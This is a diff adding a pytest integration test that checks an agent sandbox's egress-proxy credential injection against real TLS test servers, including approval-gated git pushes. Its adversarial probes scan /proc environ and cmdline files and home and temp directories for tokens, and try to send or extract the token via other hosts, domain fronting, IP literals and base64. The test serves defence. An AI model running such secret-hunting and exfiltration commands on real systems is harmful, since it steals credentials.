@@ -1,0 +1,414 @@
+"""Issue 30, items 1 and 2, from inside a real agent: credentials injected
+at the egress. The servers are real TLS servers in a network namespace of
+the test's ("outside", 10.78.0.2; the proxy reaches it through
+`[proxy] private_ranges`), their certificate from a test CA installed in
+the bed's system trust store: git.test is `git http-backend` behind basic
+auth, api.test a stand-in API recording the Authorization header it gets,
+other.test a host no credential covers, recording the same, and
+bad.test:8443 a covered host whose certificate is self-signed.
+
+The agent holds only placeholders: clone, fetch and push work (the push
+after a person approved the ref updates shown to them), the API gets the
+real token, other.test and the agent's own view only ever the placeholder,
+and bad.test no secret, with an error saying why. On the code before this
+change the agent's `git credential fill` printed the token and GH_TOKEN
+did not exist (seen failing)."""
+
+from __future__ import annotations
+
+import base64
+import json
+import time
+from collections.abc import Iterator
+
+import pytest
+from loop_agent import lay_out, start_detached
+from test_gate_bed import Agent, lev
+from testbed import Testbed
+
+pytestmark = pytest.mark.testbed
+
+OUTSIDE = "10.78.0.2"
+GIT_TOKEN = "gitinj-5ecret-d00d1e"
+API_TOKEN = "apiinj-5ecret-c0ffee"
+GH_TOKEN = "ghinj-5ecret-beef42"
+
+BLUEPRINT = """
+[agent]
+name = "egress"
+description = "runs the test's commands"
+command = ["sh", "loop.sh"]
+"""
+
+CONFIG = """
+[sandbox]
+kind = "namespace"
+
+[proxy]
+private_ranges = ["10.78.0.0/24"]
+ports = [443, 8443]
+
+[taint]
+approval_timeout = 30
+
+[credentials.gitsrv]
+kind = "git"
+hosts = ["git.test"]
+access = ["fetch", "push"]
+secret_file = "/etc/leviath/inj-git.token"
+
+[credentials.api]
+kind = "http"
+hosts = ["api.test", "bad.test:8443"]
+value = "Bearer {secret}"
+token_env = "GH_TOKEN"
+secret_file = "/etc/leviath/inj-api.token"
+
+# Item 3: the real gh (Debian's) inside the agent's own fence; ghe.test is an
+# enterprise host to gh (https://ghe.test/api/v3/..., GH_ENTERPRISE_TOKEN).
+[credentials.gh]
+kind = "cli"
+command = ["gh"]
+hosts = ["ghe.test"]
+value = "token {secret}"
+token_env = "GH_ENTERPRISE_TOKEN"
+secret_file = "/etc/leviath/inj-gh.token"
+"""
+
+HOSTS = f"""127.0.0.1 localhost
+{OUTSIDE} git.test api.test other.test bad.test ghe.test
+"""
+
+SERVER = f"""
+import base64, http.server, json, ssl, subprocess, threading
+
+GOOD = "Basic " + base64.b64encode(b"x-access-token:{GIT_TOKEN}").decode()
+
+def log(entry):
+    with open("/srv/inj/log.jsonl", "a") as f:
+        f.write(json.dumps(entry) + "\\n")
+
+class H(http.server.BaseHTTPRequestHandler):
+    protocol_version = "HTTP/1.1"
+
+    def reply(self, status, body, headers=()):
+        self.send_response(status)
+        for k, v in headers:
+            self.send_header(k, v)
+        self.send_header("Content-Length", str(len(body)))
+        self.end_headers()
+        self.wfile.write(body)
+
+    def serve(self):
+        host = self.headers.get("Host", "")
+        auth = self.headers.get("Authorization", "")
+        log({{"host": host, "port": self.server.server_address[1], "method": self.command,
+             "path": self.path, "auth": auth}})
+        if not host.startswith("git.test"):
+            return self.reply(200, b"hello from " + host.encode() + b"\\n")
+        if auth != GOOD:
+            return self.reply(401, b"", [("WWW-Authenticate", 'Basic realm="t"')])
+        path, _, query = self.path.partition("?")
+        body = self.rfile.read(int(self.headers.get("Content-Length") or 0))
+        env = {{"GIT_PROJECT_ROOT": "/srv/inj/git", "GIT_HTTP_EXPORT_ALL": "1",
+               "REQUEST_METHOD": self.command, "PATH_INFO": path, "QUERY_STRING": query,
+               "CONTENT_TYPE": self.headers.get("Content-Type", ""),
+               "REMOTE_USER": "x", "REMOTE_ADDR": "10.78.0.1", "PATH": "/usr/bin:/bin",
+               "HTTP_CONTENT_ENCODING": self.headers.get("Content-Encoding", ""),
+               "GIT_PROTOCOL": self.headers.get("Git-Protocol", "")}}
+        out = subprocess.run(["git", "http-backend"], input=body, env=env,
+                             capture_output=True).stdout
+        sep = b"\\r\\n\\r\\n" if b"\\r\\n\\r\\n" in out else b"\\n\\n"
+        head, _, rest = out.partition(sep)
+        status, headers = 200, []
+        for line in head.decode().splitlines():
+            k, _, v = line.partition(":")
+            if k.lower() == "status":
+                status = int(v.split()[0])
+            elif k:
+                headers.append((k, v.strip()))
+        self.reply(status, rest, headers)
+
+    do_GET = do_POST = serve
+
+    def log_message(self, *args):
+        pass
+
+def run(port, pem, key):
+    srv = http.server.ThreadingHTTPServer(("{OUTSIDE}", port), H)
+    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
+    ctx.load_cert_chain(pem, key)
+    srv.socket = ctx.wrap_socket(srv.socket, server_side=True)
+    srv.serve_forever()
+
+threading.Thread(target=run, args=(8443, "/srv/inj/bad.pem", "/srv/inj/bad.key"),
+                 daemon=True).start()
+run(443, "/srv/inj/tls.pem", "/srv/inj/tls.key")
+"""
+
+
+def log(bed: Testbed) -> list[dict[str, object]]:
+    out = bed.run(["cat", "/srv/inj/log.jsonl"], check=False).stdout
+    return [json.loads(line) for line in out.splitlines() if line.strip()]
+
+
+def pending(bed: Testbed, agent_id: str, timeout: float = 30) -> dict:
+    deadline = time.monotonic() + timeout
+    while time.monotonic() < deadline:
+        for row in json.loads(lev(bed, "alice", "approvals", "--json").stdout):
+            if row["agent"] == agent_id:
+                return dict(row)
+        time.sleep(0.2)
+    raise AssertionError(f"no approval request of agent {agent_id} appeared")
+
+
+def git_log(bed: Testbed) -> str:
+    return bed.run(["git", "--git-dir", "/srv/inj/git/repo.git", "log", "--oneline",
+                    "main"]).stdout
+
+
+@pytest.fixture(scope="module")
+def agent(testbed: Testbed) -> Iterator[Agent]:
+    bed = testbed
+    old_config = bed.run("cat /etc/leviath/config.toml 2>/dev/null", check=False).stdout
+    old_hosts = bed.read_file("/etc/hosts")
+    lay_out(bed, "egw", "egbp", BLUEPRINT)
+    bed.run(f"""
+        set -e
+        ip netns del lvinj 2>/dev/null || true
+        ip link del lvih 2>/dev/null || true
+        ip netns add lvinj
+        ip link add lvih type veth peer name lvis netns lvinj
+        ip addr add 10.78.0.1/24 dev lvih
+        ip link set lvih up
+        ip netns exec lvinj ip addr add {OUTSIDE}/24 dev lvis
+        ip netns exec lvinj ip link set lvis up
+        ip netns exec lvinj ip link set lo up
+        rm -rf /srv/inj /root/injseed && mkdir -p /srv/inj/git
+        git init -q --bare -b main /srv/inj/git/repo.git
+        git init -q -b main /root/injseed && cd /root/injseed && echo hello > README
+        git add README && git -c user.name=t -c user.email=t@t commit -q -m first
+        git push -q /srv/inj/git/repo.git main
+        cd /srv/inj
+        openssl req -x509 -newkey rsa:2048 -nodes -days 2 -subj /CN=injtestca \
+            -keyout ca.key -out ca.pem 2>/dev/null
+        openssl req -newkey rsa:2048 -nodes -subj /CN=git.test -keyout tls.key \
+            -out tls.csr 2>/dev/null
+        printf 'subjectAltName=DNS:git.test,DNS:api.test,DNS:other.test,DNS:ghe.test\\n' > san.ext
+        openssl x509 -req -in tls.csr -CA ca.pem -CAkey ca.key -CAcreateserial -days 2 \
+            -extfile san.ext -out tls.pem 2>/dev/null
+        openssl req -x509 -newkey rsa:2048 -nodes -days 2 -subj /CN=bad.test \
+            -addext subjectAltName=DNS:bad.test -keyout bad.key -out bad.pem 2>/dev/null
+        cp ca.pem /usr/local/share/ca-certificates/leviath-injtest.crt
+        update-ca-certificates >/dev/null 2>&1
+    """)
+    bed.write_file("/etc/hosts", HOSTS)
+    bed.write_file("/srv/inj/server.py", SERVER)
+    bed.write_file("/etc/leviath/inj-git.token", GIT_TOKEN + "\n", mode=0o600)
+    bed.write_file("/etc/leviath/inj-api.token", API_TOKEN + "\n", mode=0o600)
+    bed.write_file("/etc/leviath/inj-gh.token", GH_TOKEN + "\n", mode=0o600)
+    pid = bed.run("setsid ip netns exec lvinj python3 /srv/inj/server.py >/srv/inj/server.err "
+                  "2>&1 </dev/null & echo $!").stdout.strip()
+    bed.run("for i in $(seq 100); do curl -fs https://api.test/ready >/dev/null && exit 0; "
+            "sleep 0.1; done; cat /srv/inj/server.err; exit 1")
+    bed.run("rm -f /srv/inj/log.jsonl")
+    bed.write_file("/etc/leviath/config.toml", CONFIG)
+    bed.run(["systemctl", "restart", "leviathd"])
+    a = Agent(bed, "alice", start_detached(bed, "egbp", "egw"), f"{bed.users['alice'].home}/egw")
+    try:
+        try:
+            a.call("true")
+        except Exception:
+            print(bed.run(["journalctl", "--no-pager", "-n", "40"]).stdout)
+            raise
+        yield a
+    finally:
+        lev(bed, "alice", "stop", a.id, check=False)
+        bed.run(["kill", pid], check=False)
+        bed.run("ip netns del lvinj; rm -f /usr/local/share/ca-certificates/leviath-injtest.crt"
+                " && update-ca-certificates --fresh >/dev/null 2>&1", check=False)
+        bed.write_file("/etc/hosts", old_hosts)
+        bed.write_file("/etc/leviath/config.toml", old_config)
+        bed.run(["systemctl", "restart", "leviathd"])
+
+
+# Run inside the agent while a clone runs: every place the agent's user can
+# read that might hold a secret.
+SNOOP = f"""
+git clone -q https://git.test/repo.git snoop &
+clone=$!
+hits=""
+while kill -0 $clone 2>/dev/null; do
+  for f in /proc/[0-9]*/environ /proc/[0-9]*/cmdline; do
+    grep -q -a -e {GIT_TOKEN} -e {API_TOKEN} -e {GH_TOKEN} "$f" 2>/dev/null && hits="$hits $f"
+  done
+done
+wait $clone; echo "clone=$?"
+env | grep -c -e {GIT_TOKEN} -e {API_TOKEN} -e {GH_TOKEN}
+grep -r -l -a -e {GIT_TOKEN} -e {API_TOKEN} -e {GH_TOKEN} "$HOME" . /tmp /run/leviath \
+  2>/dev/null | head
+echo "hits:$hits"
+"""
+
+
+def test_clone_works_and_no_secret_is_anywhere_the_agent_can_read(agent: Agent) -> None:
+    rc, out, err = agent.call(SNOOP, timeout=60)
+    assert rc == 0, err
+    lines = out.splitlines()
+    assert lines[0] == "clone=0", (out, err)
+    assert lines[1] == "0" and lines[-1] == "hits:", out
+    assert GIT_TOKEN not in out + err and API_TOKEN not in out + err
+    rc, out, _ = agent.call("cat snoop/README")
+    assert out == "hello\n"
+
+
+def test_git_credential_fill_gives_only_the_placeholder(agent: Agent) -> None:
+    rc, out, err = agent.call("printf 'protocol=https\\nhost=git.test\\n\\n' | "
+                              "git credential fill")
+    assert rc == 0, err
+    assert GIT_TOKEN not in out and "password=leviath-placeholder-" in out, out
+    rc, out, err = agent.call("lev tool git_fetch https://git.test/repo.git")
+    assert GIT_TOKEN not in out + err
+
+
+def test_the_environment_holds_the_placeholder_and_the_bundle(agent: Agent) -> None:
+    rc, out, err = agent.call("echo $GH_TOKEN; echo $SSL_CERT_FILE $GIT_SSL_CAINFO; "
+                              "grep -c 'BEGIN CERTIFICATE' $SSL_CERT_FILE")
+    assert rc == 0, err
+    ph, files, count = out.splitlines()
+    assert ph.startswith("leviath-placeholder-") and API_TOKEN not in out
+    assert files == "/run/leviath/ca-bundle.pem /run/leviath/ca-bundle.pem"
+    assert int(count) > 2  # the system's CAs and the agent's
+    # The proxy's git settings survive the credential helper's (they were
+    # overwritten by it: core.sshCommand was lost for such agents).
+    rc, out, err = agent.call("git config http.proxy; git config core.sshCommand")
+    assert out.splitlines() == ["http://127.0.0.1:3128",
+                                "ssh -o ProxyCommand='lev connect %h %p'"], (out, err)
+
+
+def test_an_ssh_origin_of_a_covered_host_is_fetched_over_https_with_the_token(
+        agent: Agent) -> None:
+    """There is no sshd at git.test: the clone works only by the rewrite."""
+    rc, out, err = agent.call("rm -rf viassh && git clone -q git@git.test:repo.git viassh && "
+                              "cat viassh/README && git -C viassh config remote.origin.url")
+    assert rc == 0 and out.splitlines() == ["hello", "git@git.test:repo.git"], (out, err)
+
+
+def test_the_api_gets_the_real_token_and_another_host_only_the_placeholder(
+        testbed: Testbed, agent: Agent) -> None:
+    rc, out, err = agent.call('curl -fsS https://api.test/user -H "Authorization: Bearer '
+                              '$GH_TOKEN"; curl -fsS https://other.test/x -H '
+                              '"Authorization: token $GH_TOKEN"')
+    assert rc == 0, err
+    assert out == "hello from api.test\nhello from other.test\n" and API_TOKEN not in out
+    seen = log(testbed)
+    api = [e for e in seen if e["host"] == "api.test" and e["path"] == "/user"]
+    other = [e for e in seen if e["host"] == "other.test"]
+    assert api and all(e["auth"] == f"Bearer {API_TOKEN}" for e in api), api
+    assert other and all(API_TOKEN not in str(e["auth"]) and
+                         str(e["auth"]).startswith("token leviath-placeholder-")
+                         for e in other), other
+    # An injected request is an audit record: method, host, path.
+    out = testbed.run(["journalctl", "--no-pager", "-o", "json", f"LEVIATH_AGENT={agent.id}",
+                       "LEVIATH_TOOL=network"]).stdout
+    assert API_TOKEN not in out
+    recs = [json.loads(x) for x in out.splitlines() if x.strip()]
+    assert any(r.get("LEVIATH_RULE") == "credential api" and "GET /user" in
+               str(r.get("MESSAGE", "")) + str(r.get("LEVIATH_DETAIL", "")) for r in recs), recs
+
+
+def test_a_host_whose_certificate_does_not_verify_gets_no_secret(
+        testbed: Testbed, agent: Agent) -> None:
+    rc, out, err = agent.call("curl -sS https://bad.test:8443/x")
+    assert "does not verify" in out and "no credential was sent" in out, (rc, out, err)
+    assert not [e for e in log(testbed) if e["port"] == 8443]
+
+
+def test_a_push_waits_for_a_person_who_sees_the_ref_update(testbed: Testbed, agent: Agent
+                                                          ) -> None:
+    n = agent.submit("cd snoop && echo more >> README && git -c user.name=a -c "
+                     "user.email=a@a commit -q -am second && git push -q origin main")
+    row = pending(testbed, agent.id)
+    assert row["tool"] == "git_push" and "git.test/repo.git" in row["target"], row
+    assert "refs/heads/main:" in row.get("detail", "") and " -> " in row["detail"], row
+    assert "second" not in git_log(testbed)  # held: nothing pushed yet
+    lev(testbed, "alice", "approve", row["id"], "--once")
+    rc, _, err = agent.result(n)
+    assert rc == 0, err
+    assert "second" in git_log(testbed)
+
+
+def test_a_denied_push_pushes_nothing(testbed: Testbed, agent: Agent) -> None:
+    n = agent.submit("cd snoop && echo third >> README && git -c user.name=a -c "
+                     "user.email=a@a commit -q -am third && GIT_TERMINAL_PROMPT=0 git push "
+                     "-q origin main")
+    row = pending(testbed, agent.id)
+    lev(testbed, "alice", "approve", row["id"], "--deny")
+    rc, _, _err = agent.result(n)
+    assert rc != 0
+    assert "third" not in git_log(testbed)
+    # A fetch needs no person.
+    rc, _, err = agent.call("cd snoop && git fetch -q origin && git log --oneline origin/main")
+    assert rc == 0, err
+
+
+def test_lev_inspect_lists_which_hosts_carry_which_credential(testbed: Testbed, agent: Agent
+                                                              ) -> None:
+    out = lev(testbed, "alice", "inspect", agent.id).stdout
+    assert ("credential api (kind http): injected at the proxy toward api.test, bad.test:8443 "
+            "(Authorization header); the sandbox holds a placeholder in GH_TOKEN") in out, out
+    assert "credential gitsrv (kind git): injected at the proxy toward git.test (git " \
+           "fetch+push)" in out, out
+    assert GIT_TOKEN not in out and API_TOKEN not in out
+
+
+def test_the_real_gh_runs_in_the_agents_fence_and_its_token_reaches_only_its_host(
+        testbed: Testbed, agent: Agent) -> None:
+    """Item 3, the attacks of the old wrapper: `gh auth token` printed the
+    token (in any form the agent asked for), `gh api --hostname HOST` sent it
+    to HOST. Now gh is the real program in the agent's own fence, its token
+    the placeholder; only ghe.test's requests get the secret."""
+    if not testbed.run("command -v gh", check=False).stdout.strip():
+        pytest.fail("gh is not installed (scripts/setup installs Debian's gh)")
+    rc, out, err = agent.call("command -v gh; GH_HOST=ghe.test gh auth token; "
+                              "GH_HOST=ghe.test gh api user; "
+                              "gh api --hostname other.test user; "
+                              "GH_HOST=ghe.test gh auth token | base64 -w0", timeout=60)
+    assert GH_TOKEN not in out + err, (out, err)
+    lines = out.splitlines()
+    # The real one, no wrapper first on the PATH.
+    assert lines[0] in ("/usr/bin/gh", "/bin/gh"), (out, err)
+    assert lines[1].startswith("leviath-placeholder-"), (out, err)
+    assert "hello from ghe.test" in out and "hello from other.test" in out, (out, err)
+    assert GH_TOKEN.encode() not in base64.b64decode(lines[-1] + "=="), lines[-1]
+    seen = log(testbed)
+    ghe = [e for e in seen if e["host"] == "ghe.test"]
+    assert ghe and all(e["auth"] == f"token {GH_TOKEN}" for e in ghe), ghe
+    assert all(GH_TOKEN not in str(e["auth"]) for e in seen if e["host"] != "ghe.test")
+    # The credential fence no longer runs it with the real token for the agent.
+    args = json.dumps({"name": "gh", "args": ["api", "--hostname", "other.test", "user"]})
+    rc, out, err = agent.call(f"lev tool credential --json '{args}'")
+    assert rc != 0 and "injected at the egress" in err, (rc, out, err)
+    assert GH_TOKEN not in out + err
+
+
+
+def test_other_ways_to_a_covered_host_carry_only_the_placeholder_or_get_the_injection(
+        testbed: Testbed, agent: Agent) -> None:
+    """SOCKS5 to the covered name is injected like CONNECT; its address
+    (an IP literal is never intercepted) and a CONNECT to another name with
+    the covered Host header (curl --connect-to) are tunnels: the server only
+    ever sees the placeholder there."""
+    testbed.run("rm -f /srv/inj/log.jsonl")
+    _rc, out, err = agent.call(
+        'curl -fsS --proxy socks5h://127.0.0.1:3128 https://api.test/socks -H '
+        '"Authorization: Bearer $GH_TOKEN"; '
+        'curl -sSk https://10.78.0.2/byip -H "Authorization: Bearer $GH_TOKEN"; '
+        'curl -sSk --connect-to api.test:443:other.test:443 https://api.test/fronted -H '
+        '"Authorization: Bearer $GH_TOKEN"')
+    assert API_TOKEN not in out + err, (out, err)
+    seen = {str(e["path"]): str(e["auth"]) for e in log(testbed)}
+    assert seen.get("/socks") == f"Bearer {API_TOKEN}", seen
+    for path in ("/byip", "/fronted"):
+        assert path in seen and API_TOKEN not in seen[path], seen
+        assert seen[path].startswith("Bearer leviath-placeholder-"), seen
